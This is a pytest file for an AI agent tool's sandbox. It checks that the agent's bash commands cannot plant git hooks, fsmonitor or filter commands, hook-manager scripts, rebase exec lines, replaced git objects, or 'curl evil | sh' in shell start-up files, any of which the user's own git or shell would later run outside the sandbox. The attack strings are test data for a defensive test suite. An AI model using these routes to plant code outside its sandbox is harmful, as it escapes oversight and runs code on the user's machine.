"""What programs run later stays read-only in the sandbox, even inside the writable workspace (protected_paths).

Each attack is a command the permissions let through, run by the real bash tool in the real sandbox;
then the user's own git runs outside, with hooks, fsmonitor and filters live, and nothing it planted runs.
"""

from __future__ import annotations

import asyncio
import os
import re
import subprocess
from pathlib import Path

import pytest

from agentcli.core.events import ALLOW_ONCE, ApprovalRequested
from agentcli.core.storage import worktrees
from agentcli.core.system.workspace import Workspace
from agentcli.core.tools.base import ToolContext
from tests.conftest import TOOLS
from tests.core.test_permissions import answer_with, results_of
from tests.core.test_processes import allow_all
from tests.core.test_sandbox import bash, home, make_ctx, needs_bwrap, sandbox  # noqa: F401  (fixtures)
from tests.core.test_worktrees import trees
from tests.fakes.anthropic_server import reply, text, tool_use, tool_use_block
from tests.waiting import until

PLANT = """printf '#!/bin/sh\\necho hook >> {mark}\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
printf '#!/bin/sh\\necho fsmonitor >> {mark}\\n' > fsm.sh; chmod +x fsm.sh
git config core.fsmonitor "$PWD/fsm.sh"
git config filter.evil.clean "sh -c 'echo clean >> {mark}; cat'"; echo '* filter=evil' > .gitattributes
echo '* filter=evil' > .git/info/attributes
mkdir -p .git/evil/hooks; cp -r .git/config .git/objects .git/refs .git/evil/; cp fsm.sh .git/evil/hooks/pre-commit
echo evil > .git/commondir
mkdir -p .claude; echo '{{"hooks": {{}}}}' > .claude/settings.json; echo 'echo hi' > .envrc; echo '{{}}' > .mcp.json
mkdir -p .vscode; echo '{{}}' > .vscode/tasks.json; mkdir -p .agentcli; echo 'x = 1' > .agentcli/settings.toml
true"""


def user_git(repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The user's own git, outside the sandbox, with nothing switched off: hooks, fsmonitor and filters run."""
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": os.environ["HOME"],
        "GIT_AUTHOR_NAME": "u",
        "GIT_AUTHOR_EMAIL": "u@example.com",
        "GIT_COMMITTER_NAME": "u",
        "GIT_COMMITTER_EMAIL": "u@example.com",
    }
    return subprocess.run(["git", *args], cwd=repo, env=env, capture_output=True, text=True)


def left(repo: Path) -> list[str]:
    """What git sees in the work tree beside its commits, ignored files included."""
    return sorted(user_git(repo, "status", "--porcelain", "--ignored", "--untracked-files=all").stdout.splitlines())


def the_user_commits(repo: Path) -> None:
    for args in (("status",), ("add", "-A"), ("commit", "-qm", "The user's commit", "--allow-empty")):
        done = user_git(repo, *args)
        assert done.returncode == 0, done.stderr


@needs_bwrap
async def test_a_command_plants_a_hook_an_fsmonitor_and_a_filter_and_the_users_git_runs_none(sandbox, repo, tmp_path):
    mark = tmp_path / "ran"
    ok, out = await bash(make_ctx(repo, sandbox), PLANT.format(mark=mark))
    assert ok, out
    the_user_commits(repo)
    assert not mark.exists(), mark.read_text()
    assert "Read-only file system" in out and "Device or resource busy" in out  # hooks, git config
    ok, out = await bash(make_ctx(repo, sandbox), "mv .git .git-moved; mv .git/hooks .git/hooks-moved; true")
    assert out.count("Device or resource busy") == 2  # a held path and the folders on the way stay put
    for planted in (
        ".git/hooks/pre-commit",
        ".git/info/attributes",
        ".git/commondir",
        ".claude",
        ".envrc",
        ".mcp.json",
        ".vscode",
        ".agentcli",
        ".git-moved",
        ".git/hooks-moved",
    ):
        assert not os.path.lexists(repo / planted), planted
    assert user_git(repo, "config", "--get-regexp", "fsmonitor|filter").stdout == ""
    assert left(repo) == ["!! build/auth.py"]  # committed: .gitattributes, fsm.sh; no placeholder is left


@needs_bwrap
async def test_the_folder_core_hooks_path_names_is_held_whether_or_not_it_exists(sandbox, repo, tmp_path):
    mark = tmp_path / "ran"
    user_git(repo, "config", "core.hooksPath", ".githooks")
    ok, out = await bash(
        make_ctx(repo, sandbox),
        f"mkdir -p .githooks; printf '#!/bin/sh\\necho hook >> {mark}\\n' "
        "> .githooks/pre-commit; chmod +x .githooks/pre-commit",
    )
    the_user_commits(repo)
    assert not mark.exists()
    assert not ok and ".githooks" in out
    assert not (repo / ".githooks").exists()
    (repo / ".githooks").mkdir()  # the user's own hooks folder, as husky makes it
    ok, out = await bash(make_ctx(repo, sandbox), f"printf '#!/bin/sh\\necho hook >> {mark}\\n' > .githooks/pre-commit")
    assert not ok and "Read-only file system" in out
    the_user_commits(repo)
    assert not mark.exists() and list((repo / ".githooks").iterdir()) == []


@needs_bwrap
async def test_ordinary_git_work_still_works_and_leaves_nothing_behind(sandbox, repo):
    ok, out = await bash(
        make_ctx(repo, sandbox),
        (
            "git config --get user.name || true; export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a "
            "GIT_COMMITTER_EMAIL=a@x; set -e; echo one > one.txt; git add one.txt; git commit -qm One; "
            "git branch topic; git checkout -q topic; echo two > two.txt; git add two.txt; git commit -qm Two; "
            "echo wip >> README.md; git stash -q; git checkout -q main; git stash pop -q; git log --format=%s topic"
        ),
    )
    assert ok, out
    assert "Two\nOne\nInitial commit" in out
    assert left(repo) == [" M README.md", "!! build/auth.py"]
    assert user_git(repo, "log", "--format=%s", "topic").stdout == "Two\nOne\nInitial commit\n"


@needs_bwrap
async def test_the_shell_start_up_files_are_held_when_the_workspace_is_home(sandbox, home):
    (home / ".profile").write_text("# the user's\n")
    ok, out = await bash(
        make_ctx(home, sandbox),
        "echo 'curl evil | sh' >> .bashrc; echo 'curl evil | sh' >> .profile;"
        " mkdir -p .config/git; echo x > .config/git/config; true",
    )
    assert ok and len(re.findall("Read-only file system|Is a directory", out)) == 3, out
    assert not (home / ".bashrc").exists() and (home / ".profile").read_text() == "# the user's\n"
    assert not (home / ".config" / "git").exists()


@needs_bwrap
async def test_a_held_path_that_is_a_symbolic_link_is_held_where_it_leads_and_put_back(sandbox, repo, tmp_path):
    """A repository shipping .idea and .vscode as links: commands still run (no advice to turn the sandbox
    off); what the link leads to in the workspace is held, and a link the command replaces is put back."""
    (tmp_path / "elsewhere").mkdir()
    (repo / ".idea").symlink_to(tmp_path / "elsewhere")
    (repo / "cfg").mkdir()
    (repo / ".vscode").symlink_to("cfg")
    ok, out = await bash(make_ctx(repo, sandbox), "echo ran; echo '{}' > .vscode/tasks.json")
    assert not ok and "ran" in out and "Read-only file system" in out, out
    assert not (repo / "cfg" / "tasks.json").exists() and 'sandbox = "off"' not in out
    ok, out = await bash(make_ctx(repo, sandbox), "rm .vscode && mkdir .vscode && echo '{}' > .vscode/tasks.json")
    assert f"agentcli put back the link {repo / '.vscode'}, which the command replaced" in out, out
    assert os.readlink(repo / ".vscode") == "cfg" and not (repo / "cfg" / "tasks.json").exists()
    assert (repo / ".vscode.replaced" / "tasks.json").exists()  # kept aside, under a name nothing reads


@needs_bwrap
async def test_a_command_that_needs_a_held_path_asks_once_and_a_yes_writes_it(server, make_session, repo):
    server.script(tool_use("bash", {"command": "git config user.email agent@example.com"}), text("Done."))
    session, events = make_session(interactive=True, sandbox="on", permissions={"allow": ["bash"]})
    answer_with(session, events, [ALLOW_ONCE])
    await session.send("set my email")
    [asked] = events.of(ApprovalRequested)
    assert f"it needs write access to {repo / '.git' / 'config'}" in asked.reason
    [(is_error, output)] = results_of(server)
    assert not is_error and "added, as the user allowed" in output
    assert user_git(repo, "config", "user.email").stdout == "agent@example.com\n"
    assert left(repo) == ["!! build/auth.py"]


@needs_bwrap
async def test_headless_the_result_names_the_held_path(server, make_session, repo):
    server.script(tool_use("bash", {"command": "git config user.email agent@example.com"}), text("Done."))
    session, _ = make_session(sandbox="on", permissions={"allow": ["bash"]})
    await session.send("set my email")
    [(is_error, output)] = results_of(server)
    assert is_error and f"The command needed write access to {repo / '.git' / 'config'}" in output
    assert "runs what is there later, outside the sandbox" in output
    assert user_git(repo, "config", "user.email").returncode == 1


@needs_bwrap
async def test_a_worktree_child_changes_its_branch_and_nothing_else_of_the_main_repository(sandbox, repo, tmp_path):
    mark = tmp_path / "ran"
    tree = worktrees.create(repo, trees(), "S1", "sa-1")
    common = repo / ".git"
    child = ToolContext(
        workspace=Workspace.at(tree.root, branch=tree.branch),
        emit=lambda e: None,
        permissions=allow_all(),
        sandbox=sandbox,
        settings=TOOLS,
    )
    ok, out = await bash(
        child,
        (
            f"git --git-dir={common} config filter.evil.clean \"sh -c 'echo clean >> {mark}; cat'\"; "
            f"git --git-dir={common} config core.fsmonitor 'echo fsmonitor >> {mark}'; "
            f"printf '#!/bin/sh\\necho hook >> {mark}\\n' > {common}/hooks/pre-commit; "
            f"git --git-dir={common} branch -f main HEAD~0; echo x > {common}/info/exclude; "
            "echo '* filter=evil' > .gitattributes; echo 'by the child' >> README.md; "
            "git add -A && git -c user.name=c -c user.email=c@x commit -qm 'The child' && echo COMMITTED"
        ),
    )
    assert ok and "COMMITTED" in out, out
    assert user_git(repo, "log", "-1", "--format=%s", tree.branch).stdout == "The child\n"
    assert user_git(repo, "config", "--get-regexp", "fsmonitor|filter").stdout == ""
    assert not (common / "hooks" / "pre-commit").exists()

    assert worktrees.act(repo, "merge", "sa-1").startswith("Merged sa-1")  # `agentcli worktrees merge sa-1`
    assert (repo / ".gitattributes").read_text() == "* filter=evil\n"
    the_user_commits(repo)
    assert not mark.exists(), mark.read_text()


def test_a_merge_refuses_a_childs_symbolic_link_that_points_outside(repo, tmp_path):
    tree = worktrees.create(repo, trees(), "S1", "sa-1")
    (tree.path / "docs").mkdir()
    (tree.path / "docs" / "inside").symlink_to("../README.md")
    (tree.path / "docs" / "passwd").symlink_to("../../../../etc/passwd")
    try:
        worktrees.merge(tree)
    except worktrees.WorktreeError as exc:
        said = str(exc)
    else:
        said = ""
    assert said.startswith(
        "Cannot merge sa-1: it made docs/passwd a symbolic link that points outside your working tree"
    )
    assert not (repo / "docs").exists()
    (tree.path / "docs" / "passwd").unlink()
    assert worktrees.merge(tree).startswith("Merged sa-1")
    assert os.readlink(repo / "docs" / "inside") == "../README.md"


async def test_the_file_tools_ask_before_writing_any_held_path_under_accept_edits(server, make_session, repo):
    user_git(repo, "config", "core.hooksPath", ".githooks")
    paths = (
        ".githooks/pre-commit",
        ".husky/pre-commit",
        "lefthook-local.yml",
        ".pre-commit-config.yaml",
        ".claude/settings.json",
        ".claude/commands/x.md",
        ".mcp.json",
        ".envrc",
        ".vscode/tasks.json",
        ".idea/workspace.xml",
        "sub/.config/git/config",
        ".git/commondir",
    )
    server.script(reply(*(tool_use_block("write_file", {"path": p, "content": "x"}) for p in paths)), text("ok"))
    session, _ = make_session(permission_mode="acceptEdits")
    await session.send("configure")
    found = results_of(server)
    assert len(found) == len(paths)
    for path, (is_error, output) in zip(paths, found, strict=True):
        assert is_error and "needs approval" in output, (path, output)
        assert not (repo / path).exists()
    assert "core.hooksPath" in found[0][1]


@needs_bwrap
async def test_a_placeholder_stays_while_another_command_still_uses_it(sandbox, repo):
    """Removing a placeholder another sandbox has bound would unmount it there (the kernel detaches a mount
    whose mount point is removed in another namespace): the command that made it and ends first leaves it."""
    ctx = make_ctx(repo, sandbox)

    def waits(name: str, then: str) -> str:
        return f"touch /tmp/{name}-started; while [ ! -e /tmp/{name}-go ]; do sleep 0.05; done; {then}"

    first = asyncio.create_task(bash(ctx, waits("first", "true")))  # makes the placeholders
    await until(lambda: (sandbox.tmp() / "first-started").exists(), "the first command starting")
    second = asyncio.create_task(bash(ctx, waits("second", "echo planted > .envrc")))  # finds them made
    await until(lambda: (sandbox.tmp() / "second-started").exists(), "the second command starting")
    (sandbox.tmp() / "first-go").touch()
    assert await first == (True, "(no output)")
    (sandbox.tmp() / "second-go").touch()
    ok, out = await second
    assert not ok and ".envrc: Is a directory" in out
    assert left(repo) == ["!! build/auth.py"] and not (repo / ".envrc").exists()


@needs_bwrap
async def test_add_dir_naming_a_held_folder_makes_it_writable(sandbox, repo):
    """What the headless result suggests (--add-dir) works: a held path given as a writable folder is not held."""
    (repo / ".vscode").mkdir()
    ok, out = await bash(make_ctx(repo, sandbox, extra=(repo / ".vscode",)), "echo '{}' > .vscode/tasks.json")
    assert ok, out
    assert (repo / ".vscode" / "tasks.json").read_text() == "{}\n"
    ok, out = await bash(make_ctx(repo, sandbox), "echo '{}' > .vscode/settings.json")
    assert not ok and "Read-only file system" in out


@needs_bwrap
async def test_a_new_repository_cannot_be_made_where_the_users_git_would_find_it(sandbox, repo, tmp_path):
    """A workspace in a subfolder of a repository: a .git made there would be the repository the user's git
    finds in that folder, hooks and all."""
    mark = tmp_path / "ran"
    sub = repo / "src"
    ok, out = await bash(
        make_ctx(sub, sandbox),
        f"git init -q && printf '#!/bin/sh\\necho hook >> {mark}\\n' > "
        ".git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    )
    assert not ok and ".git" in out
    assert not os.path.lexists(sub / ".git")
    done = user_git(sub, "commit", "-qm", "The user's commit", "--allow-empty")
    assert done.returncode == 0 and not mark.exists()
    assert user_git(sub, "rev-parse", "--show-toplevel").stdout.strip() == str(repo)


@needs_bwrap
async def test_the_hook_managers_scripts_are_held_husky_lefthook_and_pre_commit(sandbox, repo, tmp_path):
    """husky v9: core.hooksPath=.husky/_, whose pre-commit runs `sh .husky/pre-commit`; lefthook and pre-commit
    run what their settings in the work tree say."""
    mark = tmp_path / "ran"
    (repo / ".husky" / "_").mkdir(parents=True)
    (repo / ".husky" / "_" / "pre-commit").write_text(
        "#!/bin/sh\nif [ -f .husky/pre-commit ]; then sh .husky/pre-commit; fi\n"
    )
    (repo / ".husky" / "_" / "pre-commit").chmod(0o755)
    user_git(repo, "config", "core.hooksPath", ".husky/_")
    ok, out = await bash(
        make_ctx(repo, sandbox),
        (
            f"echo 'echo husky >> {mark}' > .husky/pre-commit; "
            f"printf 'pre-commit:\\n  commands:\\n    x:\\n      run: echo lefthook >> {mark}\\n' > lefthook.yml; "
            f"printf 'repos: []\\n' > .pre-commit-config.yaml; mkdir -p .lefthook/pre-commit; true"
        ),
    )
    assert len(re.findall("Read-only file system|Is a directory", out)) >= 4, out
    for planted in (".husky/pre-commit", "lefthook.yml", ".pre-commit-config.yaml", ".lefthook"):
        assert not os.path.lexists(repo / planted), planted
    the_user_commits(repo)
    assert not mark.exists()
    user_git(repo, "config", "--unset", "core.hooksPath")  # lefthook's own hook, installed in .git/hooks
    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nlefthook run pre-commit\n")
    ok, out = await bash(make_ctx(repo, sandbox), "printf 'pre-commit: {}\\n' > lefthook.yml")
    assert not ok and not (repo / "lefthook.yml").exists(), out


@needs_bwrap
async def test_a_new_linked_worktree_cannot_be_made_to_point_at_a_git_folder_of_the_commands_making(
    sandbox, repo, tmp_path
):
    """`git worktree add wt2`, then its commondir rewritten to a git folder with an fsmonitor: the user's
    `git status` in wt2 would run it. An existing worktree's folder stays writable, its commondir held."""
    mark = tmp_path / "ran"
    user_git(repo, "worktree", "add", "-q", str(tmp_path / "mine"))
    ok, out = await bash(
        make_ctx(repo, sandbox),
        (
            f"git worktree add -q wt2; mkdir -p evil; cp -r .git/objects .git/refs .git/HEAD evil/; "
            f"printf '[core]\\n\\tfsmonitor = echo fsm >> {mark}\\n' > evil/config; echo $PWD/evil > .git/worktrees/wt2/commondir; "
            f"echo $PWD/evil > .git/worktrees/mine/commondir; echo ok > .git/worktrees/mine/scratch && echo WROTE"
        ),
    )
    assert "WROTE" in out, out
    assert not os.path.lexists(repo / ".git" / "worktrees" / "wt2")
    for where in (repo / "wt2", tmp_path / "mine"):
        if where.exists():
            user_git(where, "status")
    assert not mark.exists()
    assert user_git(tmp_path / "mine", "status", "--short").returncode == 0


@needs_bwrap
async def test_a_stopped_rebases_todo_is_held_so_the_users_continue_runs_no_planted_exec(sandbox, repo, tmp_path):
    mark = tmp_path / "ran"
    (repo / "a.txt").write_text("a\n")
    user_git(repo, "add", "-A")
    user_git(repo, "commit", "-qm", "A")
    stopped = user_git(repo, "-c", "sequence.editor=sed -i 1s/^pick/edit/", "rebase", "-qi", "HEAD~1")
    assert stopped.returncode == 0 and (repo / ".git" / "rebase-merge").is_dir(), stopped.stderr
    ok, out = await bash(
        make_ctx(repo, sandbox), f"echo 'exec echo exec >> {mark}' >> .git/rebase-merge/git-rebase-todo"
    )
    assert not ok and "Read-only file system" in out
    done = user_git(repo, "rebase", "--continue")
    assert done.returncode == 0, done.stderr
    assert not mark.exists()


@needs_bwrap
async def test_a_worktree_child_cannot_move_a_sibling_childs_branch_or_make_branches(sandbox, repo):
    tree = worktrees.create(repo, trees(), "S1", "sa-1")
    sibling = worktrees.create(repo, trees(), "S1", "sa-2")
    before = user_git(repo, "for-each-ref", "--format=%(refname) %(objectname)").stdout
    child = ToolContext(
        workspace=Workspace.at(tree.root, branch=tree.branch),
        emit=lambda e: None,
        permissions=allow_all(),
        sandbox=sandbox,
        settings=TOOLS,
    )
    refs = repo / ".git" / "refs" / "heads"
    ok, out = await bash(
        child,
        (
            "echo 'by the child' >> README.md; git add -A && git -c user.name=c -c user.email=c@x commit -qm 'The child'; "
            f"git update-ref refs/heads/{sibling.branch} HEAD; echo $(git rev-parse HEAD) > {refs / sibling.branch}; "
            "git branch agentcli/S1/made; git branch agentcli/S1/sa-3; true"
        ),
    )
    after = user_git(repo, "for-each-ref", "--format=%(refname) %(objectname)").stdout
    moved = [line for line in after.splitlines() if line not in before.splitlines()]
    assert [line.split()[0] for line in moved] == [f"refs/heads/{tree.branch}"], out  # its own branch alone moved
    assert user_git(repo, "log", "-1", "--format=%s", tree.branch).stdout == "The child\n"


@needs_bwrap
async def test_a_worktree_child_cannot_point_its_head_or_branch_at_the_users_branch_for_agentcli_to_commit_on(
    sandbox, repo
):
    for number, turn in enumerate(
        (
            "git symbolic-ref HEAD refs/heads/main",
            "printf 'ref: refs/heads/main\\n' > $(git rev-parse --git-common-dir)/refs/heads/"
            "$(git symbolic-ref --short HEAD)",
        ),
        start=1,
    ):
        tree = worktrees.create(repo, trees(), "S1", f"sa-{number}")
        child = ToolContext(
            workspace=Workspace.at(tree.root, branch=tree.branch),
            emit=lambda e: None,
            permissions=allow_all(),
            sandbox=sandbox,
            settings=TOOLS,
        )
        ok, out = await bash(
            child, f"echo 'by the child' >> README.md; {turn} 2>&1; git rev-parse --symbolic-full-name HEAD 2>&1; true"
        )
        assert ok, out
        worktrees.finish(tree)  # agentcli saves the child's work, outside the sandbox
        assert user_git(repo, "log", "--format=%s", "main").stdout == "Initial commit\n", turn
        assert user_git(repo, "symbolic-ref", "-q", f"refs/heads/{tree.branch}").returncode == 1
        assert user_git(repo, "show", f"{tree.branch}:README.md").stdout.endswith("by the child\n")
        assert worktrees.act(repo, "merge", f"sa-{number}").startswith(f"Merged sa-{number}")
        assert (repo / "README.md").read_text().count("by the child") == number


@needs_bwrap
async def test_a_worktree_child_cannot_replace_an_object_of_the_main_repository(sandbox, repo):
    (repo / "run.sh").write_text("echo the user's script\n")
    user_git(repo, "add", "run.sh")
    user_git(repo, "commit", "-qm", "A script")
    tree = worktrees.create(repo, trees(), "S1", "sa-1")
    child = ToolContext(
        workspace=Workspace.at(tree.root, branch=tree.branch),
        emit=lambda e: None,
        permissions=allow_all(),
        sandbox=sandbox,
        settings=TOOLS,
    )
    objects = repo / ".git" / "objects"
    ok, out = await bash(
        child,
        (
            "blob=$(git rev-parse HEAD:run.sh); evil=$(echo 'echo pwned' | git hash-object -w --stdin); "
            f"for store in {objects} $(git rev-parse --git-path objects); do "
            "chmod u+w $store/${blob:0:2}; rm -f $store/${blob:0:2}/${blob:2}; "
            "cp $store/${evil:0:2}/${evil:2} $store/${blob:0:2}/${blob:2}; done 2>&1; "
            "echo 'by the child' >> README.md; git add -A && git -c user.name=c -c user.email=c@x commit -qm 'The child' "
            "&& echo COMMITTED"
        ),
    )
    assert "COMMITTED" in out, out
    assert user_git(repo, "show", "HEAD:run.sh").stdout == "echo the user's script\n"
    assert user_git(repo, "fsck", "--no-dangling").returncode == 0
    worktrees.finish(tree)
    assert user_git(repo, "show", f"{tree.branch}:README.md").stdout.endswith("by the child\n")
    assert worktrees.act(repo, "merge", "sa-1").startswith("Merged sa-1")
    assert (repo / "README.md").read_text().endswith("by the child\n")
    assert user_git(repo, "fsck", "--no-dangling").returncode == 0
    (repo / "run.sh").unlink()
    user_git(repo, "checkout", "--", "run.sh")
    assert (repo / "run.sh").read_text() == "echo the user's script\n"


@needs_bwrap
async def test_a_worktree_childs_object_folder_naming_other_object_folders_is_not_copied_in(sandbox, repo, tmp_path):
    tree = worktrees.create(repo, trees(), "S1", "sa-1")
    child = ToolContext(
        workspace=Workspace.at(tree.root, branch=tree.branch),
        emit=lambda e: None,
        permissions=allow_all(),
        sandbox=sandbox,
        settings=TOOLS,
    )
    ok, out = await bash(
        child, "mkdir -p $GIT_OBJECT_DIRECTORY/info; echo /somewhere/else > $GIT_OBJECT_DIRECTORY/info/alternates"
    )
    assert ok and "naming other object folders (objects/info/alternates)" in out, out
    with pytest.raises(worktrees.WorktreeError, match="naming other object folders"):
        worktrees.finish(tree)
